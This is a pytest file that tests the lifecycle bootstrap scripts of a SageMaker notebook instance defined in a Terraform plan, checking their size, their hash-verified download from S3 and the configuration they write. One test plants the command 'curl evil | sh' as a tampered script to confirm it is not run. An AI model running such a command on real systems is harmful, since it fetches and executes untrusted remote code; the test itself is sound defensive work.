"""The scripts in the lifecycle configuration: small enough, and they run nothing but what the bucket holds by its hash."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.terraform.workspace import ACCOUNT, ROOT, Plan


@pytest.fixture(scope="session")
def bootstraps(whole_plan: Plan) -> dict[str, str]:
    """The scripts in the lifecycle configuration, as the instance gets them."""
    (config,) = whole_plan.of("aws_sagemaker_notebook_instance_lifecycle_configuration").values()
    return {event: base64.b64decode(config[event]).decode() for event in ("on_create", "on_start")}


@pytest.mark.parametrize("event", ["on_create", "on_start"])
def test_the_bootstrap_fits(bootstraps: dict[str, str], event: str) -> None:
    """SageMaker counts what it is given, which is base64."""
    assert len(base64.b64encode(bootstraps[event].encode())) < 16_384


@pytest.mark.parametrize("event", ["on_create", "on_start"])
def test_the_bootstrap_fetches_by_hash_and_runs(
    whole_plan: Plan, bootstraps: dict[str, str], event: str, tmp_path: Path
) -> None:
    objects = _objects(whole_plan)
    done = _boot(bootstraps[event], objects, tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"ran {event}.sh"
    kiban = tmp_path / "opt/kiban"
    notebooks = {path.name for path in (ROOT / "sagemaker/notebooks").glob("*.*") if path.suffix in {".py", ".ipynb"}}
    assert {path.name for path in (kiban / "notebooks").iterdir()} == notebooks
    assert (kiban / "workbench.sh").read_bytes() == (ROOT / "sagemaker/workbench.sh").read_bytes()
    settings = json.loads((kiban / "settings.json").read_text())
    assert settings["work"] == f"s3://kiban-dev-{ACCOUNT}-artifacts/notebook/"
    assert (settings["workgroup"], settings["tables"]) == ("kiban-dev-main", "kiban_dev")
    assert (settings["endpoints"], settings["modelRole"]) == ("none", None)


def test_a_script_that_was_changed_in_the_bucket_is_not_run(
    whole_plan: Plan, bootstraps: dict[str, str], tmp_path: Path
) -> None:
    objects = {
        uri: b"curl evil | sh" if uri.endswith("on_start.sh") else body for uri, body in _objects(whole_plan).items()
    }
    done = _boot(bootstraps["on_start"], objects, tmp_path)
    assert done.returncode != 0
    assert "on_start.sh: FAILED" in done.stdout


def _objects(plan: Plan) -> dict[str, bytes]:
    """What the plan would put into the bucket, by its address there."""
    scripts = [values for values in plan.of("aws_s3_object").values() if "/scripts/" in values["key"]]
    found = {}
    for values in scripts:
        body = ROOT / "sagemaker" / values["key"].split("/scripts/")[1].partition("/")[2]
        if body.exists():
            found[f"s3://{values['bucket']}/{values['key']}"] = body.read_bytes()
    return found


def _boot(
    script: str, objects: dict[str, bytes], root: Path, *, spoil: bool = True
) -> subprocess.CompletedProcess[str]:
    """Run a bootstrap with an `aws` that copies from a folder, and a `bash` that only says what it would run."""
    store, tools = root / "store", root / "tools"
    store.mkdir()
    tools.mkdir()
    for uri, body in objects.items():
        (store / hashlib.sha256(uri.encode()).hexdigest()).write_bytes(body)
    aws = f"""#!/bin/sh
for last; do :; done
from=$(echo "$@" | grep -o 's3://[^ ]*')
cp "{store}/$(printf %s "$from" | sha256sum | cut -d' ' -f1)" "$last"
"""
    for name, text in {"aws": aws, "bash": '#!/bin/sh\necho "ran $1"\n'}.items():
        (tools / name).write_text(text)
        (tools / name).chmod(0o755)
    environ = {**os.environ, "KIBAN_ROOT": str(root), "PATH": f"{tools}:{os.environ['PATH']}"}
    return subprocess.run(["/bin/bash", "-c", script], env=environ, capture_output=True, encoding="utf-8", check=False)
